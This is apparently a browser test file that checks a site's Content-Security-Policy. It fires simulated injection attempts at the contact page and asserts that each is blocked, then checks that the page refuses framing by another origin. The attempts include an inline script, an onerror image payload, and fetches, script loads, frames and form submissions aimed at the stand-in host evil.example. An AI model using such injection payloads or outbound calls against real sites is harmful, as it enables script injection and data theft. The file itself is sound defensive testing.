/**
 * The Content-Security-Policy, as the headers say it. Every browser test checks that it blocks nothing of the site's
 * own, on each kind of page and in each state, since all of them fail on a violation; `kinds-of-pages` goes to each
 * kind, `spec-consent` has the call widget. This file tests foreign content, and that none of it passes unseen.
 */
import { expect, test } from '../support/browser-test';
import { serve } from '../support/local-server';
import { watchPolicy } from '../support/policy-watch';
import { hydrated } from '../support/shell';

/** Attempts of a hostile text that had got past everything else. */
const attempts: Readonly<Record<string, [said: string, attempt: () => void]>> = {
  'an inline script': [
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.append('window.ran = true');
      document.body.append(script);
    },
  ],
  'a script of another host': [
    'script-src-elem',
    () => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'modulepreload', href: 'https://evil.example/x.js' });
      document.head.append(link);
    },
  ],
  'a handler in an attribute': [
    'require-trusted-types-for',
    () => {
      try {
        document.body.setAttribute('onclick', 'window.ran = true');
      } catch {
        // As it should be.
      }
      document.body.click();
    },
  ],
  'a style element': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
  ],
  'a call elsewhere': ['connect-src', () => void fetch('https://evil.example/').catch(() => 0)],
  'a picture of another host': [
    'img-src',
    () => {
      new Image().src = 'https://evil.example/x.png';
    },
  ],
  'a frame': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  'another base': [
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
  'a form to another host': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  'marks that no sanitiser lets through': [
    'require-trusted-types-for',
    () => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src="/x.png" onerror="ran = true">');
      } catch {
        // As it should be.
      }
    },
  ],
  'a script’s address elsewhere': [
    'require-trusted-types-for',
    () => {
      try {
        document.createElement('script').src = 'https://evil.example/x.js';
      } catch {
        // As it should be.
      }
    },
  ],
  'a policy by which anything would do': [
    'trusted-types',
    () => {
      try {
        (
          window as unknown as {
            trustedTypes: { createPolicy: (name: string, rules: object) => void };
          }
        ).trustedTypes.createPolicy('mine', {});
      } catch {
        // As it should be.
      }
    },
  ],
};

test.describe('what is not the site’s own is kept back', () => {
  test.use({ provoked: [/./] });

  test('whatever a hostile text would do', async ({ browser, site, trouble }) => {
    const context = await browser.newContext();
    const { violations } = await watchPolicy(context);
    const page = await context.newPage();
    await page.goto(`${site.url}/contact`, { waitUntil: 'load' });
    await hydrated(page);
    expect([...violations, ...trouble]).toEqual([]);
    for (const [what, [directive, attempt]] of Object.entries(attempts)) {
      await test.step(what, async () => {
        violations.length = 0;
        trouble.length = 0;
        await page.evaluate(attempt);
        await expect.poll(() => violations.join('\n')).toContain(directive);
        // Every other test would have failed here.
        await expect.poll(() => trouble.length).toBeGreaterThan(0);
        expect(await page.evaluate(() => 'ran' in window)).toBe(false);
      });
    }
    expect(page.url()).toBe(`${site.url}/contact`);
  });

  test('the page in a frame of another host', async ({ browser, site }) => {
    // On this machine too: Chromium keeps pages of other networks from framing it at all.
    const other = await serve(({ url }, response) => {
      const frames = `<iframe src="/own"></iframe><iframe src="${site.url}/contact"></iframe>`;
      response.setHeader('content-type', 'text/html');
      response.end(url === '/own' ? '<h1>Framed</h1>' : frames);
    });
    try {
      const page = await (await browser.newContext()).newPage();
      const refused = page.waitForEvent('requestfailed', (request) =>
        request.url().endsWith('/contact'),
      );
      await page.goto(`${other.origin}/`);
      expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
      await expect(page.frameLocator('iframe[src="/own"]').locator('h1')).toHaveText('Framed');
    } finally {
      await other.stop();
    }
  });
});
